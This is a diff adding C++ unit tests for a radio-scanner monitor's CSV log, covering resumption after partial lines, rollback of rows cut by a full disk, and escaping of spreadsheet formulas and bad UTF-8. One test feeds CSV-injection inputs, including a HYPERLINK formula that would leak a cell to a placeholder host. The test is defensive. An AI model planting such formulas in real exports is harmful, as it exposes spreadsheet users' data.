@@ -346,14 +346,16 @@ TEST_F(Scanner, TheThirdFailedSignalReadingBlanksItsRows) {
     }
 }
 
+const std::string kHead = "time,port,model,frequency_hz,level,tuning,signal,event\n";
+
 // Appended after what the file held (so no second header), a row a pass and
 // one an event, fields quoted where the scanner's text needs it.
 TEST_F(Scanner, TheLogAppendsARowForEachPassAndEventWithTheLocalTimeAndItsOffset) {
     txt_copy(options.log_path, "s.csv");
-    fake::disk["s.csv"] = "earlier\n";
+    fake::disk["s.csv"] = kHead + "earlier\n";
     aids_open(), aids_started(), aids_found("SR-B20"), Sleep(1250);
     aids_pass("SR-B20", 392, 111, 1462500, 510), aids_found("A,\"1\""), aids_lost(), aids_ended();
-    EXPECT_EQ(fake::disk["s.csv"], "earlier\n"
+    EXPECT_EQ(fake::disk["s.csv"], kHead + "earlier\n"
                                    "2026-03-01T13:00:00.000+01:00,COM3,,,,,,started\n"
                                    "2026-03-01T13:00:00.000+01:00,COM3,SR-B20,,,,,found at 38400 baud\n"
                                    "2026-03-01T13:00:01.250+01:00,COM3,SR-B20,146250000,392,111,510,\n"
@@ -370,6 +372,54 @@ TEST_F(Scanner, TheLogAppendsARowForEachPassAndEventWithTheLocalTimeAndItsOffset
     EXPECT_EQ(fake::disk["s.csv"].substr(0, 10), "time,port,");
     fake::refused_names.push_back("s.csv");
     EXPECT_EQ(exit_code(aids_open), 1) << "a log that will not open ends rxmon at the start";
+}
+
+// Rows are whole or absent: the log goes on only after a whole line of an
+// rxmon log, and a row that the disk cut short is taken back; a failure
+// before the screen is up shows once it is.
+TEST_F(Scanner, TheLogGoesOnOnlyAfterAWholeLineOfAnRxmonLogAndTakesBackACutRow) {
+    txt_copy(options.log_path, "s.csv");
+    const std::string started = "2026-03-01T13:00:00.000+01:00,COM3,,,,,,started\n",
+                      ended = "2026-03-01T13:00:00.000+01:00,COM3,,,,,,ended\n";
+    const struct { std::string held; size_t room; std::string after; int code; } cases[] = {
+        {kHead + "x\n", SIZE_MAX, kHead + "x\n" + started + ended, 0},
+        {kHead + "2", SIZE_MAX, kHead + "2\n" + started + ended, 0},
+        {kHead, 20, kHead, 0},  {"", 30, "", 0},  // the disk full within the row, within the header
+        {"hello world", SIZE_MAX, "hello world", 1},  {"x" + kHead.substr(1), SIZE_MAX, "x" + kHead.substr(1), 1}};
+    for (const auto& c : cases) {
+        fake::disk = {{"s.csv", c.held}}, fake::disk_free = c.room, scr_clear(0x10);
+        int code = 0;
+        try {
+            aids_open(), scr_clear(0x10), aids_tick(), aids_started(), aids_ended();
+        } catch (const fake::Exit& e) {
+            code = e.code;
+        }
+        EXPECT_EQ(code, c.code) << c.held;
+        EXPECT_EQ(fake::disk["s.csv"], c.after) << c.held;
+        EXPECT_EQ(row(4).find("Log stopped"), c.room == SIZE_MAX ? std::string::npos : 1) << row(4);
+    }
+    options.log_path[0] = 0;
+}
+
+// The scanner's texts reach a spreadsheet as text, never as a formula, and
+// in UTF-8 that a strict reader takes: a byte that is none becomes U+FFFD.
+TEST_F(Scanner, LoggedTextsCannotActAsFormulasAndAreAlwaysUtf8) {
+    const std::string bad = "\xEF\xBF\xBD";
+    const struct { std::string model, field; } cases[] = {
+        {"=HYPERLINK(\"http://x/?\"&A1;\"B20\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"B20\"\")\""},
+        {"+SUM(1;2)", "'+SUM(1;2)"}, {"-2", "'-2"}, {"@A1", "'@A1"}, {"\tB", "'\tB"}, {"\rB", "\"'\rB\""},
+        {"B=2-0", "B=2-0"}, {"B\xff" "20", "B" + bad + "20"}, {"\xC3\xA9t\xC3", "\xC3\xA9t" + bad},
+        {"\xC0\x80", bad + bad}, {"\xED\xA0\x80", bad + bad + bad}, {"\xF4\x90\x80\x80", bad + bad + bad + bad},
+        {"\xF0\x9F\x93\xBB", "\xF0\x9F\x93\xBB"}, {"\xE2\x82", bad + bad}};
+    txt_copy(options.log_path, "s.csv");
+    aids_open();
+    for (const auto& c : cases) {
+        size_t end = fake::disk["s.csv"].size();
+        log_event(c.model.c_str(), "e");
+        EXPECT_EQ(fake::disk["s.csv"].substr(end), "2026-03-01T13:00:00.000+01:00,COM3," + c.field + ",,,,,e\n") << c.model;
+    }
+    aids_ended();
+    options.log_path[0] = 0;
 }
 
 TEST_F(Scanner, TwoSilentModelQueriesGiveUpAfterASecondAndTheSixthEntryTellsOfNoCommunication) {
